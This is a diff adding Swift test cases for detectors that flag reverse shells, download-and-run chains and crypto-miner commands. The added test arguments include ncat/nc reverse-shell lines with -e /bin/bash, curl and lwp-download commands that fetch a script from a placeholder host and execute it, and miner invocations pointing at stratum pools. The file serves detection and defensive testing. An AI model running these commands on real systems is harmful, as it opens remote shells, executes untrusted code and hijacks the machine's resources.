@@ -65,4 +65,33 @@ struct CommandShapeTests {
             "cat /proc/1/status", "mount | grep data",
         ])
     func staysInside(_ text: String) { #expect(!text.withText(EntersHost.judge)) }
+
+    @Test(
+        "A shell's `--` does not hide its command",
+        arguments: ["/bin/sh -c -- ncat --ssl $HOST $PORT -e /bin/bash;", "sh -c -- nc 198.51.100.7 443 -e sh"])
+    func optionsEnd(_ text: String) { #expect(text.withText(ReverseShell.judge)) }
+
+    @Test(
+        "A file saved in memory, and every scheme of a pool, are seen",
+        arguments: [
+            "sh -c curl -s http://x.invalid/a > /dev/shm/a && sh /dev/shm/a",
+            "lwp-download http://x.invalid/a /tmp/a; sh /tmp/a",
+        ])
+    func savedAnywhere(_ text: String) { #expect(text.withText(DownloadAndRun.judge)) }
+
+    @Test(
+        "A pool with an account and a worker's option is a miner's",
+        arguments: [
+            "ethminer -P stratum1+tcp://0x1111111111111111111111111111111111111111.w@eth.invalid:4444",
+            "/app/kworker -o pool.invalid:4444 -u me -p x",
+        ])
+    func pools(_ text: String) { #expect(text.withText(MinerShape.judge)) }
+
+    @Test(
+        "Other programs' -o and -u are no pool",
+        arguments: [
+            "curl -o out.tar -u me:secret https://x.invalid/a", "ssh -o Port=22 -p 22 host.invalid",
+            "sort -u -o out.txt in.txt",
+        ])
+    func noPools(_ text: String) { #expect(!text.withText(MinerShape.judge)) }
 }
